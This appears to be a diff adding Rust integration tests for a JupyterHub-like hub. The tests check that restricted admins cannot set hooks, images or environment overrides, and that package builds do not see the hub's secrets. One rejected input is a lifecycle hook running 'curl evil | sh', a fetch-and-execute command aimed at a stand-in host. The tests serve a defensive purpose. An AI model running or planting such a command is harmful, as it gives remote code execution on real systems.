@@ -361,6 +361,62 @@ singleuser:
             "{body}"
         );
     }
+    // Not in a choice's override either, nor the image, hooks and the like at the top level:
+    // a filtered admin changes only resources and display fields.
+    let with_choice = json!({"data": {
+        "display_name": "Class A",
+        "allowed_groups": ["class-a"],
+        "kubespawner_override": {"mem_limit": "300M"},
+        "profile_options": {"tools": {
+            "display_name": "Tools",
+            "choices": {"plain": {
+                "display_name": "Plain",
+                "kubespawner_override": {"environment": preload},
+            }},
+        }},
+    }});
+    let (status, body) = teacher
+        .call(
+            Method::PUT,
+            "/hub/api/environments/profiles/class-a",
+            Some(with_choice),
+        )
+        .await;
+    assert_eq!(status, 403, "{body}");
+    assert!(
+        body["message"]
+            .as_str()
+            .unwrap()
+            .contains("profile_options.tools.choices.plain.kubespawner_override.environment"),
+        "{body}"
+    );
+    for (key, value) in [
+        (
+            "lifecycle_hooks",
+            json!({"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
+        ),
+        ("image", json!("teachers-own")),
+    ] {
+        let (status, body) = teacher
+            .call(
+                Method::POST,
+                "/hub/api/environments/profiles",
+                Some(json!({"data": {
+                    "display_name": "Class A3",
+                    "allowed_groups": ["class-a"],
+                    "kubespawner_override": {"mem_limit": "300M", key: value},
+                }})),
+            )
+            .await;
+        assert_eq!(status, 403, "{key}: {body}");
+        assert!(
+            body["message"]
+                .as_str()
+                .unwrap()
+                .contains(&format!("kubespawner_override.{key}")),
+            "{body}"
+        );
+    }
     let (status, body) = admin
         .call(
             Method::POST,
@@ -839,4 +895,91 @@ async fn builds_survive_a_restart_and_old_build_directories_go() {
     let on_disk = build_dirs(&hub, "stats");
     assert_eq!(on_disk.len(), 2, "{on_disk:?}");
     assert!(!on_disk.contains(&in_use), "{on_disk:?}");
+}
+
+/// A build points the environment at its directory and keeps the rest: its `env`, its being
+/// hidden. `python -m venv` and pip (and so a package's `setup.py`) run without the hub's
+/// environment (its secrets), with a `HOME` of their own.
+#[tokio::test(flavor = "multi_thread")]
+async fn builds_keep_the_environments_settings_and_not_the_hubs_secrets() {
+    // A Python that writes its environment down, and wraps the venv's pip to do the same.
+    let tools = tempfile::tempdir().unwrap();
+    let (venv_env, pip_env) = (tools.path().join("venv-env"), tools.path().join("pip-env"));
+    let python = tools.path().join("python");
+    std::fs::write(
+        &python,
+        format!(
+            r#"#!/bin/sh
+env > {venv_env}
+python3 "$@" || exit $?
+for dir; do :; done
+mv "$dir/bin/pip" "$dir/bin/real-pip"
+printf '#!/bin/sh\nenv > {pip_env}\nexec "$(dirname "$0")/real-pip" "$@"\n' > "$dir/bin/pip"
+chmod +x "$dir/bin/pip"
+"#,
+            venv_env = venv_env.display(),
+            pip_env = pip_env.display()
+        ),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&python, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let secret = "HUBFLEET_TEST_BUILD_SECRET";
+    let hub = TestHub::start_with_env(
+        &format!(
+            "hub:\n  config:\n    JupyterHub:\n      authenticator_class: dummy\n    Authenticator:\n      admin_users: [admin]\nsingleuser:\n  cmd: {}\n",
+            fake_singleuser()
+        ),
+        &format!(
+            "  environments:\n    build_packages: []\n    python: {}\n",
+            python.display()
+        ),
+        &common::python_env(),
+        &[(secret, "s3cret-value")],
+    );
+    let admin = Browser::new(&hub);
+    admin.login("admin", "x").await;
+
+    // Built once, then given a variable of its own.
+    build(&admin, "x", "six").await;
+    let first = build_finished(&admin, "x").await;
+    assert_eq!(first["state"], "succeeded", "{first}");
+    let (status, body) = admin
+        .call(
+            Method::PUT,
+            "/hub/api/environments/local/x",
+            Some(json!({"data": {"path": first["directory"], "env": {"FOO": "1"}}})),
+        )
+        .await;
+    assert_eq!(status, 200, "{body}");
+    let (status, body) = admin
+        .call(
+            Method::POST,
+            "/hub/api/environments/local/x/hide",
+            Some(json!({"hidden": true})),
+        )
+        .await;
+    assert_eq!(status, 200, "{body}");
+    build(&admin, "x", "six").await;
+    let built = build_finished(&admin, "x").await;
+    assert_eq!(built["state"], "succeeded", "{built}");
+    let (status, x) = admin
+        .call(Method::GET, "/hub/api/environments/local/x", None)
+        .await;
+    assert_eq!(status, 200, "{x}");
+    assert_eq!(x["data"]["env"]["FOO"], "1", "{x}");
+    assert_eq!(x["data"]["path"], built["directory"], "{x}");
+    assert_eq!(x["hidden"], true, "{x}");
+
+    for dump in [&venv_env, &pip_env] {
+        let env = std::fs::read_to_string(dump).unwrap();
+        assert!(!env.contains(secret), "{}: {env}", dump.display());
+        assert!(!env.contains("HUBFLEET_"), "{}: {env}", dump.display());
+        let home = env
+            .lines()
+            .find_map(|l| l.strip_prefix("HOME="))
+            .unwrap_or_default();
+        assert!(!home.is_empty(), "{env}");
+        assert_ne!(Some(home), std::env::var("HOME").ok().as_deref(), "{env}");
+    }
 }
